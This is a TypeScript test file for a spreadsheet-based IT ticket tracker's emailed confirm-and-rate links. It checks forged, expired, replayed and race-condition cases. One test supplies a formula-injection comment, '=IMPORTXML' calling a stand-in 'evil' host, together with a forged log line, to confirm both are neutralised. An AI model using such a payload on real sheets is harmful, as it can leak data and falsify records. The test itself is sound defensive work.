// One-click verification and rating from the mail (issue 18; src/app/verify.ts): "solved" closes,
// "not solved" reopens — once. Every bad link (forged, altered, expired, replayed, archived, double
// click) gets its page and changes nothing. The page itself: verifyPage.test.ts; the links in the
// mails: answerLinks.test.ts.
import { createLocalRuntime } from '../../runtime';
import type { LocalRuntime } from '../../runtime';
import { LINK_LIFETIME_MS } from '../../src/domain/verifyLink';
import { answerInvitation } from '../../src/app/verify';
import type { Services } from '../../src/gas/services';
import { T0, setUp, trackerRuntime } from './helpers';
import { REQUESTER, act, answer, linksFor, open, paramsOf, resolvedTicket, ticketOf } from './verifyHelpers';
import type { EntryResult } from '../entries';

const audit = (rt: LocalRuntime) => rt.services.SpreadsheetApp.getActiveSpreadsheet().getSheetByName('操作日志')!.getDataRange().getValues().slice(1);
/** Everything a bad link must leave alone: the ticket sheet and the audit sheet. */
const snapshot = (rt: LocalRuntime) => JSON.stringify([rt.services.SpreadsheetApp.getActiveSpreadsheet().getSheetByName('工单')!.getDataRange().getValues(), audit(rt)]);

describe('answering', () => {
  it('"solved" with a rating closes the ticket, files the solution, writes the log and the audit', () => {
    const rt = trackerRuntime();
    const id = resolvedTicket(rt);
    const before = audit(rt).length;
    const r = answer(rt, linksFor(rt, id).solved.satisfied, { answer: 'solved', rating: 'satisfied', comment: '很快，谢谢' });
    expect(r).toEqual({ ok: true, message: `谢谢！您确认了工单 ${id} 已解决，工单已关闭。` });
    const tk = ticketOf(rt, id);
    expect(tk['当前状态']).toBe('已关闭');
    expect(tk['提交人反馈']).toBe('是;满意');
    expect(String(tk['处理过程记录'])).toMatch(/小明: 提交人确认（邮件链接）：已解决，满意；说明：很快，谢谢\n.* 小明: 已关闭（提交人确认）$/);
    const rows = audit(rt).slice(before);
    expect(rows).toHaveLength(1);
    expect(rows[0][2]).toBe(id);
    expect(String(rows[0][3])).toContain('当前状态');
    expect(rows[0][6]).toBe('邮件链接');
    // Confirmed by the requester: the solution becomes a suggestion.
    const kb = rt.services.SpreadsheetApp.getActiveSpreadsheet().getSheetByName('知识库')!.getDataRange().getValues();
    expect(kb.some((row) => row.includes('重启了数据库连接池'))).toBe(true);
  });

  it('"not solved" reopens the ticket with the comment as the reason; the next resolution gets a new link', () => {
    const rt = trackerRuntime();
    const id = resolvedTicket(rt);
    const first = linksFor(rt, id);
    const r = answer(rt, first.notSolved, { answer: 'notSolved', rating: 'unsatisfied', comment: '还是连不上' });
    expect(r.ok).toBe(true);
    let tk = ticketOf(rt, id);
    expect(tk['当前状态']).toBe('处理中');
    expect(tk['解决时间']).toBe('');
    expect(tk['提交人反馈']).toBe('否;不满意');
    expect(String(tk['处理过程记录'])).toMatch(/小明: 提交人反馈（邮件链接）：未解决，不满意，重新打开：还是连不上$/);
    rt.clock.set(rt.clock.now() + 3_600_000);
    expect(act(rt, id, 'resolve', { solution: '更换了网线' }).ok).toBe(true);
    // The first link named the first resolution: it is used.
    expect(open(rt, first.page).content).toContain('您已经回复过这个链接');
    const second = linksFor(rt, id);
    expect(answer(rt, second.page, { answer: 'solved', rating: 'satisfied' }).ok).toBe(true);
    tk = ticketOf(rt, id);
    expect(tk['当前状态']).toBe('已关闭');
    expect(tk['提交人反馈']).toBe('是;满意');
  });

  it('a choice left out keeps the form, says what is missing and changes nothing', () => {
    const rt = trackerRuntime();
    const id = resolvedTicket(rt);
    const link = linksFor(rt, id).page;
    const s = snapshot(rt);
    expect(answer(rt, link, { answer: 'solved' })).toMatchObject({ ok: false, final: false, message: '请选择评价。' });
    expect(answer(rt, link, { rating: 'basic' })).toMatchObject({ ok: false, final: false, message: '请选择是否解决。' });
    expect(answer(rt, link, 'solved')).toMatchObject({ ok: false, final: false });
    expect(snapshot(rt)).toBe(s);
    // The link still works afterwards.
    expect(answer(rt, link, { answer: 'solved', rating: 'basic' }).ok).toBe(true);
  });

  it('treats the comment like every other typed text: no formula, no forged log line, no control characters', () => {
    const rt = trackerRuntime();
    const id = resolvedTicket(rt);
    const link = linksFor(rt, id).notSolved;
    const s = snapshot(rt);
    expect(answer(rt, link, { answer: 'notSolved', rating: 'basic', comment: 'a\u0007b' })).toMatchObject({ ok: false, message: expect.stringContaining('控制字符') });
    expect(answer(rt, link, { answer: 'notSolved', rating: 'basic', comment: 'x'.repeat(1001) })).toMatchObject({ ok: false, message: expect.stringContaining('1000') });
    expect(snapshot(rt)).toBe(s);
    const r = answer(rt, link, { answer: 'notSolved', rating: 'basic', comment: '=IMPORTXML("http://evil","//a")\n2024-05-01 10:00 李工: 已关闭' });
    expect(r.ok).toBe(true);
    const log = String(ticketOf(rt, id)['处理过程记录']).split('\n');
    // The second typed line stays inside the entry (indented): it cannot pass for an entry of its own.
    expect(log[log.length - 1]).toBe('  2024-05-01 10:00 李工: 已关闭');
    expect(log[log.length - 2]).toContain('重新打开：=IMPORTXML');
    const sheet = rt.services.SpreadsheetApp.getActiveSpreadsheet().getSheetByName('工单')!;
    expect(sheet.getDataRange().getFormulas().flat().every((f) => f === '')).toBe(true);
  });
});

describe('bad links change nothing and say why', () => {
  const setup = () => {
    const rt = trackerRuntime();
    const id = resolvedTicket(rt);
    return { rt, id, links: linksFor(rt, id) };
  };

  it('forged: a token signed with another key, or none', () => {
    const { rt, links } = setup();
    const other = trackerRuntime();
    const otherId = resolvedTicket(other);
    const foreign = linksFor(other, otherId).page; // same ticket ID, another tracker's secret
    const s = snapshot(rt);
    for (const url of [foreign, 'https://x/exec?t=IT20240501001.abc.def.0123456789abcdef.AAAAAAAAAAAAAAAAAAAAAAAA', 'https://x/exec?t=garbage']) {
      expect(open(rt, url).content).toContain('这个链接无效');
      expect(answer(rt, url, { answer: 'solved', rating: 'satisfied' })).toMatchObject({ ok: false, final: true, code: 'forged' });
    }
    expect(snapshot(rt)).toBe(s);
    void links;
  });

  it('altered: another ticket ID, a later expiry, a changed signature', () => {
    const { rt, id, links } = setup();
    resolvedTicket(rt); // a second ticket the altered link could try to name
    const t = paramsOf(links.page).t;
    const parts = t.split('.');
    const later = [parts[0], parts[1], (parseInt(parts[2], 36) + LINK_LIFETIME_MS).toString(36), parts[3], parts[4]].join('.');
    const otherTicket = [id.replace(/1$/, '2'), ...parts.slice(1)].join('.');
    const badSig = [...parts.slice(0, 4), parts[4].slice(0, -1) + (parts[4].endsWith('A') ? 'B' : 'A')].join('.');
    const s = snapshot(rt);
    for (const token of [later, otherTicket, badSig]) {
      const url = `https://x/exec?t=${encodeURIComponent(token)}`;
      expect(open(rt, url).content).toContain('这个链接无效');
      expect(answer(rt, url, { answer: 'solved', rating: 'satisfied' })).toMatchObject({ ok: false, code: 'forged' });
    }
    expect(snapshot(rt)).toBe(s);
  });

  it('expired: after its lifetime', () => {
    const { rt, links } = setup();
    rt.clock.set(rt.clock.now() + LINK_LIFETIME_MS + 60_000);
    const s = snapshot(rt);
    expect(open(rt, links.page).content).toContain('这个链接已过期（链接 14 天内有效）');
    expect(answer(rt, links.page, { answer: 'solved', rating: 'satisfied' })).toMatchObject({ ok: false, code: 'expired' });
    expect(snapshot(rt)).toBe(s);
  });

  it('replayed: a used link, and its sibling links of the same mail', () => {
    const { rt, links } = setup();
    expect(answer(rt, links.solved.satisfied, { answer: 'solved', rating: 'satisfied' }).ok).toBe(true);
    const s = snapshot(rt);
    expect(answer(rt, links.solved.satisfied, { answer: 'solved', rating: 'satisfied' })).toMatchObject({ ok: false, code: 'used', message: expect.stringContaining('您已经回复过') });
    expect(answer(rt, links.notSolved, { answer: 'notSolved', rating: 'basic' })).toMatchObject({ ok: false, code: 'used' });
    expect(open(rt, links.notSolved).content).toContain('您已经回复过这个链接');
    expect(snapshot(rt)).toBe(s);
  });

  it('stale: the agent reopened the ticket before the requester answered', () => {
    const { rt, id, links } = setup();
    expect(act(rt, id, 'reopen', { reason: '补充修复' }).ok).toBe(true);
    const s = snapshot(rt);
    expect(open(rt, links.page).content).toContain(`工单 ${id} 已有新的进展`);
    expect(answer(rt, links.page, { answer: 'solved', rating: 'satisfied' })).toMatchObject({ ok: false, code: 'stale' });
    expect(snapshot(rt)).toBe(s);
  });

  it('archived: the ticket moved to the archive sheet', () => {
    const { rt, id, links } = setup();
    // Archive it by hand the way archiving leaves it: gone from the ticket sheet, its row in 归档.
    const ss = rt.services.SpreadsheetApp.getActiveSpreadsheet();
    const sheet = ss.getSheetByName('工单')!;
    const row = sheet.getRange(2, 1, 1, sheet.getLastColumn()).getValues();
    const arch = ss.insertSheet('归档');
    arch.getRange(1, 1, 1, row[0].length).setValues(sheet.getRange(1, 1, 1, row[0].length).getValues());
    arch.getRange(2, 1, 1, row[0].length).setValues(row);
    sheet.deleteRow(2);
    const s = snapshot(rt);
    expect(open(rt, links.page).content).toContain(`工单 ${id} 已归档`);
    expect(answer(rt, links.page, { answer: 'solved', rating: 'satisfied' })).toMatchObject({ ok: false, code: 'archived' });
    expect(snapshot(rt)).toBe(s);
  });

  it('double click: two sends racing for the lock apply once; the second is told it was recorded', () => {
    const { rt, id, links } = setup();
    const token = paramsOf(links.page).t;
    const before = audit(rt).length;
    let second = null as EntryResult<'answerVerification'> | null;
    // The second click arrives while the first waits for the lock.
    rt.interleave('lock', () => {
      second = rt.webApp(REQUESTER).run<EntryResult<'answerVerification'>>('answerVerification', token, { answer: 'solved', rating: 'satisfied' }).result;
    });
    const first = rt.webApp(REQUESTER).run<EntryResult<'answerVerification'>>('answerVerification', token, { answer: 'solved', rating: 'satisfied' }).result;
    const results = [first, second];
    expect(results.filter((r) => r?.ok)).toHaveLength(1);
    expect(results.filter((r) => !r?.ok)[0]).toMatchObject({ code: 'used', final: true });
    expect(audit(rt).length - before).toBe(1);
    expect(String(ticketOf(rt, id)['处理过程记录']).match(/提交人确认（邮件链接）/g)).toHaveLength(1);
  });
});

describe('deployments', () => {
  it('in an English sheet the pages speak English', () => {
    const rt = trackerRuntime({ locale: 'en-US' });
    const page = open(rt, 'https://x/exec?t=garbage');
    expect(page.title).toBe('Confirm the fix');
    expect(page.content).toContain('This link is not valid');
    expect(page.content).toContain('<html lang="en">');
  });

  it('an add-on makes no links (its web app has no spreadsheet) and its web app says how to answer instead', () => {
    const rt = createLocalRuntime({ now: T0, locale: 'zh-CN', user: 'li@example.com', addonMode: true });
    setUp(rt);
    const page = rt.webApp(REQUESTER).get({ t: 'IT20240501001.a.b.0123456789abcdef.AAAAAAAAAAAAAAAAAAAAAAAA' }).result;
    expect(page.content).toContain('这个链接需要绑定到工单表的脚本的网页应用');
    const answer = rt.webApp(REQUESTER).run<EntryResult<'answerVerification'>>('answerVerification', 'x', {}).result;
    expect(answer).toMatchObject({ ok: false, code: 'addOn' });
  });

  it('keeps the secret in the bound script\'s script properties, never in a sheet or the document store', () => {
    const rt = trackerRuntime();
    linksFor(rt, resolvedTicket(rt));
    const secret = rt.services.PropertiesService.getScriptProperties().getProperty('verify.secret');
    expect(secret).toMatch(/^[0-9a-f]{64}$/);
    expect(rt.services.PropertiesService.getDocumentProperties().getProperty('verify.secret')).toBeNull();
    const ss = rt.services.SpreadsheetApp.getActiveSpreadsheet();
    for (const sh of ss.getSheets()) expect(JSON.stringify(sh.getDataRange().getValues())).not.toContain(secret);
  });
});

describe('waiting for the requester', () => {
  it("the requester's answer ends a running wait for them; its period stays recorded", () => {
    const rt = trackerRuntime();
    const id = resolvedTicket(rt);
    const sheet = rt.services.SpreadsheetApp.getActiveSpreadsheet().getSheetByName('工单')!;
    const header = sheet.getRange(1, 1, 1, sheet.getLastColumn()).getValues()[0] as string[];
    const recCol = header.findIndex((h) => h === '系统记录') + 1;
    expect(recCol).toBeGreaterThan(0);
    const since = rt.clock.now() - 3_600_000;
    const record = String(sheet.getRange(2, recCol).getValue());
    sheet.getRange(2, recCol).setValue(`${record}|r${since.toString(36)}`);
    const link = linksFor(rt, id).notSolved;
    expect(answer(rt, link, { answer: 'notSolved', rating: 'basic', comment: '还是不行' }).ok).toBe(true);
    const after = String(sheet.getRange(2, recCol).getValue());
    expect(after.split('|')[0]).toBe('inProgress');
    expect(after.endsWith(`|;r${since.toString(36)}-${rt.clock.now().toString(36)}`)).toBe(true);
    expect(ticketOf(rt, id)['等待']).toBe('');
  });
});

describe('the mail seam', () => {
  it('answerInvitation gives the lines the resolved mail carries: a link per choice, or how to answer in an add-on', () => {
    const rt = trackerRuntime();
    const id = resolvedTicket(rt);
    const tk = ticketOf(rt, id);
    const ticket = { id, status: 'resolved' as const, resolvedAt: (tk['解决时间'] as Date).getTime() };
    const { text, links } = answerInvitation(rt.services as unknown as Services, ticket, rt.clock.now(), 'zh');
    expect(text.split('\n')).toEqual([
      '问题解决了吗？请点击下面的链接确认并评价（无需打开工单表）：',
      `已解决，满意：${links!.solved.satisfied}`,
      `已解决，基本满意：${links!.solved.basic}`,
      `已解决，不满意：${links!.solved.unsatisfied}`,
      `未解决：${links!.notSolved}`,
      '链接 14 天内有效，只能使用一次。',
    ]);
    expect(open(rt, links!.solved.basic).content).toContain('value="basic" checked');
    const addon = createLocalRuntime({ now: T0, locale: 'zh-CN', user: 'li@example.com', addonMode: true });
    setUp(addon);
    expect(answerInvitation(addon.services as unknown as Services, ticket, T0, 'zh')).toEqual({ text: expect.stringContaining('请直接回复此邮件'), links: null });
  });
});

describe('cost', () => {
  it('opening is a view (≤10 spreadsheet calls); answering with the row the page found costs a close (≤12)', () => {
    const rt = trackerRuntime();
    const id = resolvedTicket(rt);
    const link = linksFor(rt, id).page;
    const got = rt.webApp(REQUESTER).get(paramsOf(link));
    expect(got.stats.spreadsheetCalls).toBeLessThanOrEqual(10);
    const row = Number(/var row = (\d+);/.exec(got.result.content)?.[1]);
    expect(row).toBe(2);
    const r = rt.webApp(REQUESTER).run<EntryResult<'answerVerification'>>('answerVerification', paramsOf(link).t, { answer: 'solved', rating: 'satisfied' }, row);
    expect(r.result.ok).toBe(true);
    expect(r.stats.spreadsheetCalls).toBeLessThanOrEqual(12);
  });

  it('a wrong or forged row hint only costs the search', () => {
    const rt = trackerRuntime();
    const id = resolvedTicket(rt);
    const link = linksFor(rt, id).page;
    expect(answer(rt, link, { answer: 'solved', rating: 'satisfied' }, REQUESTER, 99_999).ok).toBe(true);
    expect(ticketOf(rt, id)['当前状态']).toBe('已关闭');
  });
});
